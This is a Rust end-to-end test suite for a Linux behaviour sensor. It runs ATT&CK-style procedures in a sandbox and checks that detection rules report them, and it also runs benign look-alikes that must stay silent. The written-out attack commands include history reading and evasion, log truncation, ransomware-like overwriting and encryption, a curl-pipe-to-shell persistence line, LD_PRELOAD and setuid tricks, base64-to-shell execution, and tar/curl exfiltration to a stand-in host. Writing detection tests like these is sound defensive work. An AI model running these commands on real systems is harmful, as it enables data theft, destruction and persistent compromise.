//! End-to-end: ATT&CK procedures for Linux (docs/coverage.md) run inside `agent-sensor watch` on
//! the real kernel, one test per class, each asserting the rule that must report it; and their
//! benign look-alikes, asserting silence. Every file they touch is the scenario's own (a fake
//! home, a project, a scratch directory, a log file the test creates under /var/log); network
//! traffic goes to loopback listeners only.

mod support;

use std::net::TcpListener;

use support::{scenario::*, *};

/// A loopback listener that accepts and drops connections; its port.
fn loopback_sink() -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    std::thread::spawn(move || for _ in listener.incoming() {});
    port
}

fn assert_fired(alerts: &[serde_json::Value], rules: &[&str]) {
    let fired = rule_ids(alerts);
    for rule in rules {
        assert!(fired.iter().any(|id| id == rule), "no {rule} alert among {fired:?}");
    }
}

#[test]
fn history_read_and_history_evasion_alert() {
    if !require_root("coverage e2e") {
        return;
    }
    let s = Scenario::new();
    let alerts = s.run("cat ~/.bash_history > /dev/null", &[]);
    let read = alert(&alerts, "shell-history-read");
    assert_eq!(str_field(read, "process.name"), "cat");
    assert_eq!(
        str_field(read, "file.path"),
        s.home().join(".bash_history").display().to_string()
    );
    let alerts = s.run("export HISTFILE=/dev/null; unset HISTFILE; true", &[]);
    assert_fired(&alerts, &["history-evasion"]);
}

#[test]
fn log_truncation_and_deletion_alert() {
    if !require_root("coverage e2e") {
        return;
    }
    let s = Scenario::new();
    let log = tempfile::Builder::new()
        .prefix("agent-sensor-e2e-")
        .suffix(".log")
        .tempfile_in("/var/log")
        .expect("a log file of this test");
    std::fs::write(log.path(), "Dec  6 01:00:00 host sshd[1]: Accepted publickey\n").expect("log");
    let path = log.path().display().to_string();
    let alerts = s.run(&format!(": > {path}; truncate -s0 {path}"), &[]);
    assert!(
        alerts
            .iter()
            .any(|a| str_field(a, "rule.id") == "log-tampering" && str_field(a, "file.path") == path),
        "no log-tampering alert naming {path} among {:?}",
        rule_ids(&alerts)
    );
}

#[test]
fn overwriting_and_encrypting_documents_alert() {
    if !require_root("coverage e2e") {
        return;
    }
    let s = Scenario::new();
    let documents = s.home().join("Documents");
    for i in 0..25 {
        std::fs::write(documents.join(format!("doc{i}.txt")), "text\n").expect("documents");
    }
    let script = format!(
        r#"set -e
/usr/bin/python3 -c 'import glob
for p in sorted(glob.glob("{docs}/doc*.txt")): open(p, "r+").write("XXXX")'
openssl enc -aes-256-cbc -pbkdf2 -k k -in ~/Documents/notes.txt -out ~/Documents/notes.txt.enc
mv ~/Documents/notes.txt.enc ~/Documents/notes.txt
mv ~/Documents ~/Documents.old
"#,
        docs = documents.display()
    );
    let alerts = s.run(&script, &[]);
    assert_fired(
        &alerts,
        &[
            "mass-overwrite",
            "encryption-for-impact",
            "ciphertext-over-original",
            "protected-tree-moved",
        ],
    );
    let moved = alert(&alerts, "protected-tree-moved");
    assert_eq!(
        str_field(moved, "file.path"),
        s.home().join("Documents.old").display().to_string()
    );
}

#[test]
fn persistence_by_rename_alerts() {
    if !require_root("coverage e2e") {
        return;
    }
    let s = Scenario::new();
    let alerts = s.run(
        "printf 'curl -s http://127.0.0.1:1/x | sh\\n' > ~/.profile.tmp.1.ab && \
         /usr/bin/python3 -c 'import os; os.rename(os.path.expanduser(\"~/.profile.tmp.1.ab\"), os.path.expanduser(\"~/.profile\"))'",
        &[],
    );
    let moved = alert(&alerts, "persistence-rename-blocked");
    assert_eq!(
        str_field(moved, "file.path"),
        s.home().join(".profile").display().to_string()
    );
}

#[test]
fn setuid_and_loader_tricks_alert() {
    if !require_root("coverage e2e") {
        return;
    }
    let s = Scenario::new();
    let target = s.scratch().join("b");
    std::fs::write(&target, "#!/bin/sh\n").expect("file");
    let alerts = s.run(
        &format!(
            "chmod u+s {t}; LD_PRELOAD=/tmp/agent-e2e-missing.so true 2>/dev/null",
            t = target.display()
        ),
        &[],
    );
    assert_fired(&alerts, &["setuid-set", "loader-hijack"]);
}

#[test]
fn decoded_commands_and_scripts_alert() {
    if !require_root("coverage e2e") {
        return;
    }
    let s = Scenario::new();
    let script = s.scratch().join("u");
    // `dHJ1ZQo=` is "true\n".
    let alerts = s.run(
        &format!(
            "echo dHJ1ZQo= | base64 -d | sh; echo dHJ1ZQo= | base64 -d > {u}; sh {u}",
            u = script.display()
        ),
        &[],
    );
    assert_fired(&alerts, &["decode-to-shell", "decoded-script-run"]);
}

#[test]
fn archives_and_uploads_to_the_network_alert() {
    if !require_root("coverage e2e") {
        return;
    }
    let s = Scenario::new();
    let port = loopback_sink();
    let alerts = s.run(
        &format!(
            "tar czf - ~/Documents 2>/dev/null | curl -s -m 5 -T - http://127.0.0.1:{port}/d.tgz; \
             curl -s -m 5 --resolve drop.example.invalid:{port}:127.0.0.1 \
               --data-binary @$HOME/Documents/notes.txt http://drop.example.invalid:{port}/u; true"
        ),
        &[],
    );
    assert_fired(&alerts, &["archive-exfiltration", "file-upload-outside-workspace"]);
}

#[test]
fn ptrace_namespaces_and_memory_execution_alert() {
    if !require_root("coverage e2e") {
        return;
    }
    let s = Scenario::new();
    // ptrace(PTRACE_TRACEME); unshare -U; /bin/true run from a memfd.
    let script = r#"
/usr/bin/python3 -c 'import ctypes; ctypes.CDLL(None).ptrace(0, 0, 0, 0)'
unshare -U true
/usr/bin/python3 -c 'import os; fd = os.memfd_create("x"); os.write(fd, open("/bin/true", "rb").read()); os.execv(f"/proc/self/fd/{fd}", ["x"])'
"#;
    let alerts = s.run(script, &[]);
    assert_fired(&alerts, &["ptrace-attach", "namespace-entered", "memfd-exec"]);
}

#[test]
fn look_alikes_of_these_procedures_raise_nothing() {
    if !require_root("coverage e2e") {
        return;
    }
    let s = Scenario::new();
    let port = loopback_sink();
    std::fs::write(s.project().join("payload.json"), "{\"a\": 1}\n").expect("payload");
    let script = format!(
        r#"set -e
base64 src/main.c > main.b64 && base64 -d main.b64 > main.copy.c && cmp main.copy.c src/main.c
tar czf {scratch}/project.tgz --exclude=project.tgz .
curl -s -m 5 -X POST -d @payload.json http://127.0.0.1:{port}/api || true
gpg --version > /dev/null
chmod +x src/main.c && chmod 644 src/main.c
/usr/bin/python3 -c 'import os; open("src/main.c.tmp", "w").write("int main(void) {{ return 1; }}\n"); os.replace("src/main.c.tmp", "src/main.c")'
mv main.copy.c main.renamed.c
git init -q . && git add . && git commit -qm 'first commit'
cat ~/.gitconfig > /dev/null
"#,
        scratch = s.scratch().display()
    );
    let alerts = s.run(&script, &[]);
    assert!(alerts.is_empty(), "benign work raised: {:#?}", rule_ids(&alerts));
}
